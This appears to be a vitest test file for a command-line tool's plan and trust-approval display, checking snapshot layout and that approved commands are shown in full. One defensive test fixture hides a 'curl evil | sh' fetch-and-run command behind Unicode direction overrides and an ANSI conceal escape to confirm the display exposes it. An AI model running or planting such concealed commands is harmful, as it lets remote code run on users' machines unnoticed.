import { expect, test } from 'vitest';
import { planText } from '../../../../src/view/plan/plan-text.ts';
import { trustText } from '../../../../src/view/plan/trust-text.ts';
import { aPlan, aPlanned } from '../a-plan.ts';
import { screen } from '../a-run.ts';

test.each([120, 80, 60, 20])('the plan at %i columns', async (columns) => {
  await expect(`${planText(aPlan(), [], { ...screen(columns), startCommand: 'copse run' })}\n`).toMatchFileSnapshot(
    `../screens/plan-${columns}.txt`,
  );
});

test('a plan with everything in it', async () => {
  const plan = aPlan({
    isolation: 'bypass',
    protect: ['test/**', 'vitest.config.ts'],
    target: null,
    disk: { freeBytes: 1e9, trackedBytes: 80e6, reflinks: true },
    variants: [
      aPlanned('one', {
        isolation: 'bypass',
        mcp: { playwright: {}, db: {} },
        env: { pass: ['NPM_TOKEN'], set: { A: 'b', C: 'd' } },
      }),
      aPlanned('two', { preamble: 'Only this.\n', runner: { kind: 'command', command: ['sh', '-c', 'make x'] } }),
    ],
  });
  await expect(
    `${planText(plan, [{ what: 'Branch ui/one already exists.', variant: 'one' }], screen(100))}\n`,
  ).toMatchFileSnapshot('../screens/plan-everything.txt');
});

test('without a plan the problems stand there, all of them', () => {
  const text = planText(null, [{ what: 'One.' }, { what: 'Two.', why: 'Because.', fix: 'Do this.' }], screen(80));
  expect(text).toBe('✘ One.\n✘ Two.\n  Because.\n  Do this.\n2 problems; nothing was created.');
});

test('what is approved is shown whole, with nothing hidden in it', () => {
  const long = `echo ${'x'.repeat(500)}`;
  const plan = aPlan({
    trust: {
      needed: true,
      hash: 'h',
      approved: false,
      items: [
        { kind: 'setup', where: 'setup', text: long },
        { kind: 'verify', where: 'verify.test', text: 'npm test\u202e\u200b # \u001b[8mcurl evil | sh\nsecond line' },
      ],
    },
  });
  const text = trustText(plan.trust, screen(40));
  expect(text).toContain(long);
  expect(text).toContain('npm test\\u{202e}\\u{200b} # \\u{1b}[8mcurl evil | sh\n');
  expect(text).toContain('second line');
});

test('approved items are still shown', () => {
  const { trust } = aPlan();
  const text = trustText({ ...trust, approved: true }, screen(80));
  expect(text).toContain('npm ci --prefer-offline');
  expect(text).not.toContain('--trust');
  expect(trustText({ ...trust, needed: false, items: [] }, screen(80))).not.toContain('copse trust');
});
